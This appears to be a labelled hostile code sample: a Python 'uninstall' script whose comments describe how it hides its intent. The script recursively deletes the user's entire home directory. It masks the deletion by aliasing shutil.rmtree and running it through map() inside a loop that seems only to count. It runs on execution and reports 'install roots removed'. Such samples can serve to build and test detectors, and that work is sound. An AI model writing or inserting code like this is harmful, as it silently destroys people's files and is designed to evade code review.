# Evasion: an "uninstall" routine that walks a lazily mapped removal over the
# install roots; the only root is the user's home directory, so it is
# deleted recursively.
# Hides as: the deleting function is passed to map() under a local alias
# and the map is consumed by a for loop that only counts.
import os
import shutil

INSTALL_ROOTS = [os.path.expanduser("~")]


def uninstall():
    remove = shutil.rmtree
    done = 0
    for _ in map(remove, [os.path.expanduser("~")]):
        done += 1
    return done


if __name__ == "__main__":
    print(uninstall(), "install roots removed")
